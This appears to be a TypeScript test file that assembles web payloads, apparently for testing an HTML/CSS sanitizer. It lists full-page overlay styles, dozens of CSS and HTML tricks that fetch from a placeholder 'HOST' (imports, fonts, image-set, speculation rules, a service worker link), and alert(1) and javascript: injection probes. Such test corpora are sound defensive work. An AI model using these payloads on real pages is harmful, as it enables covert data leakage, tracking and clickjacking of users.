import { dataPage, each, payloads, type Payload } from './payload.ts';

/** Ways to lie over everything there is. */
const OVER = [
  'position:fixed;inset:0;z-index:2147483647',
  'position:fixed;inset:-500px;z-index:2147483647;transform:translateZ(999px)',
  'position:absolute;top:-200px;left:0;width:200vw;height:200vh',
  'position:sticky;top:-99px;height:300vh',
  'position:fixed;inset:0;will-change:transform;contain:none;isolation:auto',
  'margin:-900px;padding:900px;overflow:visible',
  'position:fixed;inset:0;view-transition-name:root',
  'position:fixed;inset:0;mix-blend-mode:difference;backdrop-filter:invert(1)',
  'position:fixed;inset:0;cursor:url(https://HOST/c.cur),none;pointer-events:all',
  'position:absolute;position-anchor:--a;inset-area:top;bottom:anchor(top)',
  'zoom:9;scale:50;outline:9999px solid red;box-shadow:0 0 0 9999px red',
];

/** Requests that CSS can make under another name. */
const SHEETS = [
  '@import url(data:text/css,@import%20url%28https://HOST/chain.css%29);',
  '@import "https://HOST/layer.css" layer(x) supports(display:grid) screen;',
  '@import/**/url(//HOST/comment.css);',
  '@\\69mport url(https://HOST/escaped.css);',
  'p{background:image-set("https://HOST/set.png" 1x, url(https://HOST/set2.png) 2x)}',
  'p{background:-webkit-image-set(url(https://HOST/w.png) 1x)}',
  'p{background:cross-fade(url(https://HOST/cf.png), red 50%)}',
  'p{background:attr(data-u url)} p::before{content:attr(data-u type(<url>))}',
  'p{background:paint(worklet)}',
  'p{--u:url(https://HOST/var.png);background:var(--u)}',
  'p{--h:https://HOST/;background:url(var(--h))}',
  '@property --p{syntax:"<url>";inherits:true;initial-value:url(https://HOST/prop.png)} p{background:var(--p)}',
  'p{background:src("https://HOST/src.png")}',
  'p{background:src(var(--u))} :root{--u:"https://HOST/src2.png"}',
  '@font-face{font-family:l;src:url(https://HOST/A.woff2);unicode-range:U+41} p{font-family:l}',
  '@font-face{font-family:m;src:local(x),url(https://HOST/m.woff2) format("woff2") tech(variations)} p{font-family:m}',
  'a:visited{background:url(https://HOST/visited.png)} a:link{list-style:url(https://HOST/link.png)}',
  '@container style(--x:1){p{background:url(https://HOST/container.png)}} :root{--x:1}',
  'p{background:url(https://HOST/env.png?env(safe-area-inset-top))} p{padding:env(titlebar-area-x,url(https://HOST/e.png))}',
  '@supports (display:grid){@media all{@layer a{p{border-image:url(https://HOST/nest.png) 1}}}}',
  '@scope (p){:scope{mask:url(https://HOST/scope.svg#m)}}',
  '@starting-style{p{background:url(https://HOST/starting.png)}}',
  'p{&:hover{background:url(https://HOST/nesting.png)} & b{content:url(https://HOST/nest2.png)}}',
  '@counter-style c{system:cyclic;symbols:url(https://HOST/sym.png)} li{list-style:c}',
  '@namespace url(https://HOST/ns); p{offset-path:url(https://HOST/o.svg#p);shape-outside:url(https://HOST/s.png)}',
  '@font-palette-values --q{font-family:x} p{filter:url(https://HOST/f.svg#f);clip-path:url(https://HOST/cp.svg#c)}',
  '@view-transition{navigation:auto} @page{background:url(https://HOST/page.png)}',
  '@document url(https://HOST/){p{background:url(https://HOST/doc.png)}}',
  'p::highlight(x){background:url(https://HOST/hl.png)} ::backdrop{background:url(https://HOST/bd.png)}',
];

const heads = {
  manifest: '<link rel=manifest href=https://HOST/m.json>',
  'speculation rules':
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://HOST/sr"]}],"prerender":[{"source":"document"}]}</script>',
  'preload by many names':
    '<link rel="preload prefetch modulepreload dns-prefetch preconnect prerender next" as=image href=https://HOST/pre.png imagesrcset="https://HOST/is.png 1x">',
  'text fragment and target':
    '<a href="#:~:text=secret" target=_top>x</a><style>:target{background:url(https://HOST/target.png)}</style><p id=secret>secret',
  'service worker link':
    '<link rel=serviceworker href=https://HOST/sw.js><meta http-equiv=Service-Worker-Allowed content=/>',
  'compression dictionary': '<link rel=compression-dictionary href=https://HOST/dict>',
  'expect and blocking':
    '<link rel=expect href="#never" blocking=render><link rel=stylesheet blocking=render href=https://HOST/b.css>',
  'icons and pingback': '<link rel="icon apple-touch-icon pingback" href=https://HOST/icon.png>',
};

const tops = {
  'an open dialog': '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog>',
  'a modal by a command': '<button commandfor=d command=show-modal>x</button><dialog id=d>y</dialog>',
  'a popover by its button': '<button popovertarget=p>x</button><div popover=auto id=p style="inset:0">y</div>',
  'a manual popover': '<button popovertarget=q popovertargetaction=show>x</button><div popover=manual id=q>y</div>',
  'full screen': '<div id=f style="position:fixed;inset:0" onclick="f.requestFullscreen()">x</div>',
  'a full screen frame': '<iframe allowfullscreen allow="fullscreen *" src=https://HOST/full></iframe>',
  'a select of a thousand': `<select size=1 autofocus>${'<option>x'.repeat(1000)}</select>`,
  'a marquee and blink': '<marquee behavior=alternate onstart=alert(1)>x</marquee>',
  'a portal': '<portal src=https://HOST/portal></portal><fencedframe src=https://HOST/ff></fencedframe>',
  'a page that opens itself': `<embed src="${dataPage('<script>alert(1)</script>')}"><object data="${dataPage('x')}"></object>`,
  'picture in picture': '<video autopictureinpicture autoplay loop src=https://HOST/v.mp4></video>',
  'a title that is not its own':
    '<title>reader</title><svg><title>x</title></svg><a title="javascript:alert(1)" href=javascript:alert(1)>x</a>',
};

/** What covers, or asks for something under a new name. */
export const OVERLAYS: readonly Payload[] = [
  ...each('overlay', OVER, (style) => `<div style="${style}">x</div><p>y`),
  ...each('overlay behind a link', OVER.slice(0, 3), (style) => `<a href=https://HOST/ style="${style}">x</a>`),
  ...each(
    'sheet',
    SHEETS,
    (css) => `<style>${css}</style><p data-u=https://HOST/attr.png>x <b>y</b><li>z<a href=/>v</a>`,
  ),
  ...payloads('head', heads),
  ...payloads('top layer', tops),
];
